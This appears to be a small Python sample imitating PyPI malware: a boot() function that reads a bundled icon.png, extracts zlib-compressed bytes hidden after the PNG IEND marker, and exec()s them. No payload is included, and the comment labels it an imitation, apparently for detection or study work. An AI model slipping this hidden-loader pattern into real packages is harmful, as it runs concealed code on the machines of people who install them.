# Imitates image loaders of PyPI malware: code hidden after the PNG end marker of a bundled icon, read and exec'd.
import zlib
from pathlib import Path


def boot():
    data = (Path(__file__).parent / "assets" / "icon.png").read_bytes()
    exec(zlib.decompress(data[data.rfind(b"IEND") + 8 :]))
